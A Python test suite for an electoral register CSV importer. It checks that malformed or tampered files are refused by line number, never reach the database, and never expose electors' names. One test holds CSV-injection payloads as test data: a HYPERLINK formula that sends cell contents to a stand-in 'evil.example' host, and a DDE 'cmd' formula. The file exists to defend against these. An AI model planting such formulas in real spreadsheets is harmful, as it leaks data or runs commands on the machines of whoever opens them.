"""Register import: a damaged or hostile file is never a traceback and never reaches the database.

NULs, numbers too large for their columns, cells too long, broken encodings, runaway quotes and spreadsheet
formulas are each a line-numbered problem (or, for a file that is not CSV text at all, one line), and no
message quotes an elector's name.
"""
from __future__ import annotations

import csv
import io

import pytest

from server.errors import ValidationFailed
from server.models import Elector, Property, RegisterEdition
from server.services.register_import import import_register
from server.services.register_parse import MAX_INTEGER, MAX_LENGTH, RegisterRejected, parse_register, parse_rows
from tests.server.test_register_import import CODE, HEADER_14, count, elector, make_constituency, register_file

HEADINGS = HEADER_14.split(",")


def row(number="1", suffix="0", surname="Bell", forenames="Ava", postcode="EF1 1AA", lines=("2", "High Street",
        "Elmford"), prefix="AA1", markers="", dob="") -> str:
    """One 14-column register row as a council writes it (cells with commas or quotes quoted)."""
    cells = [prefix, number, suffix, markers, dob, surname, forenames, postcode, *lines]
    cells += [""] * (len(HEADINGS) - len(cells))
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)  # quotes a cell holding a line break, as Excel does
    return out.getvalue()[:-1]


def cells(*args, **kwargs) -> list[str]:
    """The cells of ``row(...)``, read back as the importer's CSV reader reads them."""
    return next(csv.reader(io.StringIO(row(*args, **kwargs), newline="")))


def rejected(path) -> dict[int, tuple[str, str]]:
    """Import ``path`` expecting a refusal: {line: (field, message)}, after checking nothing was written."""
    with pytest.raises(RegisterRejected) as refused:
        import_register(path, CODE)
    assert count(Elector) == count(Property) == count(RegisterEdition) == 0
    return {p["line"]: (p["field"], p["message"]) for p in refused.value.details["rows"]}


# --- NULs and control characters ------------------------------------------------------------------------


def test_a_nul_in_a_surname_or_an_address_is_a_numbered_problem_and_the_database_never_sees_it(app, tmp_path):
    make_constituency()
    path = register_file(tmp_path, [row("1"), row("2", surname="Zeb\x00edee"),
                                    row("3", lines=("4 High\x00 Street", "Elmford"))])

    problems = rejected(path)

    assert problems == {
        3: ("surname", "Elector Surname contains a NUL character (U+0000), which no register holds: "
                       "is the file damaged?"),
        4: ("address1", "Address1 contains a NUL character (U+0000), which no register holds: is the file damaged?"),
    }


def test_a_lone_surrogate_from_a_damaged_utf16_file_is_a_numbered_problem(app, tmp_path):
    make_constituency()
    text = "\n".join([HEADER_14, row("1"), row("2", forenames="Zo\ud800e"), ""])
    path = tmp_path / "damaged-utf16.csv"
    path.write_bytes(b"\xff\xfe" + text.encode("utf-16-le", "surrogatepass"))

    problems = rejected(path)

    assert list(problems) == [3]
    assert problems[3] == ("forenames", "Elector Forename contains a broken character (U+D800, half of a UTF-16 "
                                        "pair), which no register holds: is the file damaged?")


def test_control_characters_and_stray_latin1_bytes_are_refused_but_tabs_and_line_breaks_are_only_spaces():
    parsed = parse_rows(HEADINGS, [
        (2, cells("1", surname="Bell\x07")),
        (3, cells("2", surname="Bell\x81")),  # a byte Windows-1252 leaves undefined
        (4, cells("3", forenames="Ava\tMay\r\nRose")),
    ])

    assert [(p.line, p.field) for p in parsed.problems] == [(2, "surname"), (3, "surname")]
    assert "U+0007" in parsed.problems[0].message and "U+0081" in parsed.problems[1].message
    assert parsed.rows[0].forenames == "Ava May Rose"


# --- Numbers too large for their columns ------------------------------------------------------------------


def test_numbers_too_large_for_the_database_are_numbered_problems_in_every_place_a_number_goes(app, tmp_path):
    make_constituency()
    path = register_file(tmp_path, [
        row("1"),
        row("99999999999"),
        row("3", suffix="99999999999"),
        row("4", lines=("99999999999 High Street", "Elmford")),
        row("9" * 5000),  # more digits than Python will even turn into an int by default
    ])

    problems = rejected(path)

    assert problems[3] == ("number", "Elector Number '99999999999' is too large for an elector number "
                                     "(at most 2,147,483,647)")
    assert problems[4] == ("suffix", "Elector Number Suffix '99999999999' is too large for a suffix "
                                     "(at most 2,147,483,647)")
    assert problems[5] == ("address", "the house number in the address is too large (at most 2,147,483,647)")
    assert problems[6] == ("number", "Elector Number is 5,000 characters long; at most 32 are allowed")


def test_a_full_elector_number_too_large_for_its_column_is_a_numbered_problem():
    parsed = parse_rows(["Elector Number", "Surname", "Forename", "Postcode", "Address1"], [
        (2, ["AA1-99999999999", "Bell", "Ava", "EF1 1AA", "2 High Street"]),
        (3, ["AA1-5/99999999999", "Bell", "Ben", "EF1 1AA", "2 High Street"]),
    ])

    assert [(p.line, p.field) for p in parsed.problems] == [(2, "number"), (3, "number")]
    assert all("too large" in p.message for p in parsed.problems)


def test_the_largest_numbers_the_columns_hold_are_imported(app, tmp_path):
    make_constituency()
    biggest = str(MAX_INTEGER)
    path = register_file(tmp_path, [row(biggest, suffix=biggest, lines=(f"{biggest} High Street", "Elmford"))])

    assert import_register(path, CODE).added == 1

    stored = elector(f"AA1-{biggest}/{biggest}")
    assert stored.property.house_number == MAX_INTEGER


# --- Encodings ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("codec, words", [("utf-16-le", "UTF-16 (little-endian)"),
                                          ("utf-16-be", "UTF-16 (big-endian)")])
def test_utf16_without_a_byte_order_mark_is_refused_in_one_line_that_names_it(app, tmp_path, codec, words):
    make_constituency()
    path = tmp_path / "register.csv"
    path.write_bytes("\n".join([HEADER_14, row("1"), row("2"), ""]).encode(codec))

    with pytest.raises(ValidationFailed) as refused:
        import_register(path, CODE)

    message = refused.value.message
    assert words in message and "CSV UTF-8" in message
    assert "\n" not in message and "\x00" not in message
    assert count(Elector) == 0


def test_utf16_with_a_byte_order_mark_imports(app, tmp_path):
    make_constituency()
    path = tmp_path / "register.csv"
    path.write_bytes("\r\n".join([HEADER_14, row("1", surname="Ó'Brien"), ""]).encode("utf-16"))

    summary = import_register(path, CODE)

    assert (summary.encoding, summary.added) == ("utf-16", 1)
    assert elector("AA1-1").surname == "Ó'Brien"


def test_a_workbook_saved_under_a_csv_name_is_refused_in_one_line(app, tmp_path):
    make_constituency()
    path = tmp_path / "register.csv"
    path.write_bytes(b"PK\x03\x04" + bytes(2000))

    with pytest.raises(ValidationFailed) as refused:
        import_register(path, CODE)
    assert "workbook" in refused.value.message and "\n" not in refused.value.message


def test_the_cli_refuses_utf16_without_a_bom_in_one_line(app, runner, tmp_path):
    make_constituency()
    path = tmp_path / "register.csv"
    path.write_bytes("\n".join([HEADER_14, *(row(str(n)) for n in range(1, 300)), ""]).encode("utf-16-le"))

    result = runner.invoke(args=["register", "import", str(path), "--constituency", CODE])

    assert result.exit_code == 1
    assert result.output.strip().count("\n") == 0, result.output
    assert "UTF-16 (little-endian)" in result.output and "\x00" not in result.output


# --- Unbalanced quotes ------------------------------------------------------------------------------------


def test_a_quote_closed_only_rows_later_is_reported_at_the_line_where_it_opened(app, tmp_path):
    make_constituency()
    lines = [row(str(n)) for n in range(1, 9)]
    lines[2] = lines[2].replace(",Bell,", ',"Bell,')  # file line 4: the quoted field opens and is not closed
    lines[5] = lines[5].replace(",Bell,", ',Bell",')  # file line 7: a stray quote closes it

    problems = rejected(register_file(tmp_path, lines))

    assert list(problems) == [4]
    assert problems[4][1].startswith("a quoted field opens on this line and runs on to line 7, so the rows after "
                                     "it were read as part of one field")


def test_a_quote_never_closed_is_reported_at_the_line_where_it_opened_not_as_a_short_row(app, tmp_path):
    make_constituency()
    lines = [row(str(n)) for n in range(1, 9)]
    lines[4] = lines[4].replace(",Bell,", ',"Bell,')  # file line 6

    problems = rejected(register_file(tmp_path, lines))

    assert list(problems) == [6]
    assert "is never closed: it runs to the end of the file" in problems[6][1]


def test_a_quote_that_runs_on_past_the_csv_field_limit_is_reported_at_the_line_where_it_opened(app, tmp_path):
    make_constituency()
    lines = [row(str(n)) for n in range(1, 4000)]
    lines[9] = lines[9].replace(",Bell,", ',"Bell,')  # file line 11

    problems = rejected(register_file(tmp_path, lines))

    assert list(problems) == [11]
    assert "runs on for more than 131,072 characters" in problems[11][1]


def test_a_quoted_address_cell_with_a_line_break_typed_in_a_spreadsheet_still_imports(app, tmp_path):
    make_constituency()
    path = register_file(tmp_path, [row("1", lines=("Flat 2, Victoria Court\n12 High Street", "Elmford")), row("2")])

    summary = import_register(path, CODE)

    assert summary.added == 2
    assert elector("AA1-1").property.address_lines == ["Flat 2, Victoria Court 12 High Street", "Elmford"]


# --- Length limits ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("field, values, message", [
    ("surname", {"surname": "S" * 121}, "Elector Surname is 121 characters long; at most 120 are allowed"),
    ("forenames", {"forenames": "F" * 201}, "Elector Forename is 201 characters long; at most 200 are allowed"),
    ("address1", {"lines": ("A" * 12_000, "Elmford")}, "Address1 is 12,000 characters long; at most 120 are allowed"),
    ("address", {"lines": ("2 High Street", *["B" * 120] * 3, "Elmford")},
     "the address is 384 characters long; at most 380 are allowed"),
    ("markers", {"markers": "E " * 17}, "Elector Markers is 33 characters long; at most 32 are allowed"),
    ("postcode", {"postcode": "EF1 1AA" + "A" * 4}, "PostCode is 11 characters long; at most 10 are allowed"),
    ("prefix", {"prefix": "A" * 9}, "Elector Number Prefix is 9 characters long; at most 8 are allowed"),
    ("dob", {"dob": "1" * 20}, "Elector DOB is 20 characters long; at most 19 are allowed"),
])
def test_every_field_has_a_length_limit_with_a_clear_message(field, values, message):
    parsed = parse_rows(HEADINGS, [(2, cells("1", **values))])

    assert [(p.line, p.field, p.message) for p in parsed.problems] == [(2, field, message)]


def test_a_name_split_from_one_column_keeps_to_the_surname_and_forename_limits():
    parsed = parse_rows(["Elector Number", "Elector Name", "Postcode", "Address1"], [
        (2, ["AA1-1", "S" * 121 + ", Ava", "EF1 1AA", "2 High Street"])])

    assert [(p.field, p.message) for p in parsed.problems] == [
        ("surname", "the surname is 121 characters long; at most 120 are allowed")]


def test_a_12000_character_address_line_is_refused_and_values_at_each_limit_are_stored(app, tmp_path):
    make_constituency()
    at_limits = row("1", surname="S" * MAX_LENGTH["surname"], forenames="F" * MAX_LENGTH["forenames"],
                    lines=("2 " + "H" * 118, *["E" * 120] * 2, "E" * 17))
    assert len(" ".join(next(csv.reader([at_limits]))[8:12])) == MAX_LENGTH["address"]
    too_long = row("2", lines=("A" * 12_000, "Elmford"))

    problems = rejected(register_file(tmp_path, [at_limits, too_long], name="too-long.csv"))
    assert problems == {3: ("address1", "Address1 is 12,000 characters long; at most 120 are allowed")}

    summary = import_register(register_file(tmp_path, [at_limits], name="at-limits.csv"), CODE)
    assert summary.added == 1
    stored = elector("AA1-1")
    assert (len(stored.surname), len(stored.forenames)) == (120, 200)
    assert stored.property.street == "H" * 118 and "#" not in stored.property.address_key


# --- Spreadsheet formulas ---------------------------------------------------------------------------------


def test_formula_cells_in_names_and_addresses_are_refused_by_line_without_repeating_them(app, tmp_path):
    make_constituency()
    path = register_file(tmp_path, [
        row("1", surname="Smith-Jones", forenames="Mary-Ann"),  # hyphens inside a name are names
        row("2", lines=('=HYPERLINK("http://evil.example/?"&A1,"Click")', "Elmford")),
        row("3", surname="+cmd|' /C calc'!A0"),
        row("4", forenames="-1+1"),
        row("5", lines=("Flat 1, @SUM(A1:A9)", "2 High Street", "Elmford")),
    ])

    problems = rejected(path)

    assert {line: field for line, (field, _) in problems.items()} == {3: "address", 4: "surname", 5: "forenames",
                                                                        6: "address"}
    assert problems[4][1] == ("Elector Surname starts with '+', as a spreadsheet formula does: no council's "
                              "register holds one, so the file may have been tampered with (ask the council for "
                              "a fresh export)")
    assert problems[3][1].startswith("Address1 starts with '='")
    assert problems[6][1].startswith("Address1 starts with '@' (or has a part that does)")
    for _, message in problems.values():
        assert "HYPERLINK" not in message and "calc" not in message and "SUM" not in message


def test_parse_register_reads_text_held_in_memory_the_same_way():
    parsed = parse_register("\n".join([HEADER_14, row("1"), row("1"), row("2", surname="=1+1")]))

    assert [(p.line, p.field) for p in parsed.problems] == [(3, "number"), (4, "surname")]
    assert parsed.rows_read == 3 and len(parsed.rows) == 1


# --- The command never prints a traceback or a name -------------------------------------------------------


def test_the_cli_reports_nuls_and_huge_numbers_by_line_without_a_traceback_or_the_electors_names(
        app, runner, tmp_path):
    make_constituency()
    path = register_file(tmp_path, [
        row("1"),
        row("2", surname="Zeb\x00edee"),
        row("99999999999", surname="Quenby"),
        row("4", suffix="99999999999", surname="Wolstenholme"),
        row("5", surname="Ravensworth", lines=("99999999999 High Street", "Elmford")),
        row("6", surname="Pemberton", lines=("Flat 1\x00", "2 High Street")),
    ])

    result = runner.invoke(args=["register", "import", str(path), "--constituency", CODE])

    assert result.exit_code == 1
    assert "Traceback" not in result.output and isinstance(result.exception, SystemExit)
    for name in ("Zeb", "Quenby", "Wolstenholme", "Ravensworth", "Pemberton"):
        assert name not in result.output
    for line in (3, 4, 5, 6, 7):
        assert f"line {line}: " in result.output
    assert "0 added, 0 updated, 0 removed, 0 unchanged, 5 rejected" in result.output
    assert count(Elector) == 0


def test_an_internal_error_is_reported_without_a_traceback_or_the_row_it_was_handling(
        app, runner, tmp_path, monkeypatch):
    make_constituency()

    def broken(*_args, **_kwargs):
        raise KeyError("Zebedee Quenby, 2 High Street")

    monkeypatch.setattr("server.services.register_import.import_register", broken)
    result = runner.invoke(args=["register", "import", str(register_file(tmp_path, [row("1")])),
                                 "--constituency", CODE])

    assert result.exit_code == 1
    assert "Traceback" not in result.output and "Zebedee" not in result.output
    assert "internal error (KeyError at test_register_bad_input.py:" in result.output


def test_a_database_error_is_reported_without_the_parameters_it_carried(app, runner, tmp_path, monkeypatch):
    from sqlalchemy.exc import IntegrityError

    make_constituency()

    def refused(*_args, **_kwargs):
        raise IntegrityError("INSERT INTO elector ...", {"surname": "Quenby"}, Exception("duplicate key (Quenby)"))

    monkeypatch.setattr("server.services.register_import.import_register", refused)
    result = runner.invoke(args=["register", "import", str(register_file(tmp_path, [row("1")])),
                                 "--constituency", CODE])

    assert result.exit_code == 1
    assert "Quenby" not in result.output and "Traceback" not in result.output
    assert "The database refused the import (IntegrityError)" in result.output


def test_the_report_lists_every_problem_as_csv_that_a_spreadsheet_will_not_run(app, runner, tmp_path):
    make_constituency()
    # A tampered heading still names the surname column, and every message about it starts with "=".
    header = HEADER_14.replace("Elector Surname", "=Elector Surname")
    path = register_file(tmp_path, [row("1"), row("2", surname=""), row("x")], header=header)
    report = tmp_path / "problems.csv"

    result = runner.invoke(args=["register", "import", str(path), "--constituency", CODE, "--report", str(report)])

    assert result.exit_code == 1 and f"The problems are listed in {report}" in result.output
    with report.open(newline="", encoding="utf-8") as handle:
        lines = list(csv.reader(handle))
    assert lines == [
        ["line", "field", "message"],
        ["3", "surname", "'=Elector Surname is missing"],
        ["4", "number", "Elector Number 'x' is not a whole number"],
    ]
    assert report.read_text(encoding="utf-8").startswith('"line","field","message"')


def test_a_file_with_hundreds_of_bad_rows_prints_the_first_hundred_and_the_report_has_them_all(
        app, runner, tmp_path):
    make_constituency()
    path = register_file(tmp_path, [row(str(n), postcode="NOWHERE") for n in range(1, 151)])

    printed = runner.invoke(args=["register", "import", str(path), "--constituency", CODE])
    assert printed.exit_code == 1
    assert "line 101: " in printed.output and "line 102: " not in printed.output
    assert "the first 100 problems are shown; --report FILE.csv lists 150." in printed.output
    assert "0 added, 0 updated, 0 removed, 0 unchanged, 150 rejected" in printed.output

    report = tmp_path / "problems.csv"
    runner.invoke(args=["register", "import", str(path), "--constituency", CODE, "--report", str(report)])
    with report.open(newline="", encoding="utf-8") as handle:
        assert [int(r["line"]) for r in csv.DictReader(handle)] == list(range(2, 152))
